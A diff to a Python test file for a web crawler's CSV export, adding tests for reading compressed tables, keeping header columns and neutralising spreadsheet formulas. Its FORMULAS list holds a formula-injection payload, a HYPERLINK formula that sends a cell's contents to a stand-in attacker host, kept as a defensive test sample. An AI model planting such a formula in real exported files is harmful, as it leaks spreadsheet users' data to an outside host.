@@ -3,10 +3,13 @@
 import csv
 import io
 import json
+from pathlib import Path
 
 import pytest
 
-from crawler.export.csv import MOST_COLUMNS, NotATable, fields_of, inert_cell, read_table, write_table
+from crawler.export.csv import MOST_COLUMNS, Csv, fields_of, inert_cell, read_table, write_table
+from crawler.export.formats import FORMATS, Making, NotReadable, NotWritable
+from tests.export.datasets import read, written
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -152,7 +155,7 @@ def test_a_record_without_fields_is_a_line() -> None:
 
 def test_a_table_has_a_bound_of_columns() -> None:
     lines = (json.dumps({f"f{number}": 1}).encode() for number in range(MOST_COLUMNS + 1))
-    with pytest.raises(NotATable, match="more than 16,384 different fields"):
+    with pytest.raises(NotWritable, match="more than 16,384 different fields"):
         fields_of(lines)
 
 
@@ -166,7 +169,7 @@ def test_a_table_has_a_bound_of_columns() -> None:
     ],
 )
 def test_what_is_no_table_cannot_be_added_to(text: str, said: str) -> None:
-    with pytest.raises(NotATable, match=said):
+    with pytest.raises(NotReadable, match=said):
         list(read_table(io.StringIO(text, newline=""), is_safe=True))
 
 
@@ -174,3 +177,41 @@ def test_reading_a_long_cell_changes_nothing_for_the_process() -> None:
     before = csv.field_size_limit()
     assert len(list(read_table(io.StringIO("a\n" + "x" * 300_000, newline=""), is_safe=True))) == 2
     assert csv.field_size_limit() == before
+
+
+CODED = [".csv", ".csv.gz", ".csv.zst"]
+
+
+@pytest.mark.parametrize("ending", CODED)
+def test_a_table_is_read_as_records_of_text(ending: str, tmp_path: Path) -> None:
+    records = [{"a": 1, "@b": True, "c": None}, {"c": ["x"], "d": "two\nlines, é"}]
+    found = [{"a": "1", "@b": "true", "c": "", "d": ""}, {"a": "", "@b": "", "c": '["x"]', "d": "two\nlines, é"}]
+    assert read(written(tmp_path / f"items{ending}", records)) == found
+
+
+def test_a_table_of_another_program_is_read(tmp_path: Path) -> None:
+    path = tmp_path / "items.csv"
+    path.write_bytes("\ufeffa,b\n1\n,\n\n2,é".encode())
+    assert read(path) == [{"a": "1"}, {"a": "", "b": ""}, {"a": "2", "b": "é"}]
+
+
+@pytest.mark.parametrize("ending", CODED)
+def test_a_table_that_is_a_header_alone_keeps_its_columns(ending: str, tmp_path: Path) -> None:
+    form = FORMATS[ending]()
+    header, both = tmp_path / f"header{ending}", tmp_path / f"both{ending}"
+    form.write(lambda: [b'["b","a"]'], header, Making())
+    assert read(header) == []
+    form.write(lambda: [*form.take_over(header, Making()), *lines_of({"a": 1})], both, Making())
+    assert read(both) == [{"b": "", "a": "1"}]
+
+
+def test_cells_of_a_table_that_is_added_to_stay_as_they_are(tmp_path: Path) -> None:
+    path, again = tmp_path / "items.csv", tmp_path / "again.csv"
+    path.write_text("a,b\n=1+1,x\n")
+    Csv().write(lambda: [*Csv().take_over(path, Making()), *lines_of({"b": "=2"})], again, Making())
+    assert cells_of(again.read_text()) == [["a", "b"], ["=1+1", "x"], ["", "'=2"]]
+
+
+def test_the_option_is_the_making_s(tmp_path: Path) -> None:
+    path = written(tmp_path / "items.csv", [{"a": "=1"}], Making(is_safe=False))
+    assert cells_of(path.read_text()) == [["a"], ["=1"]]
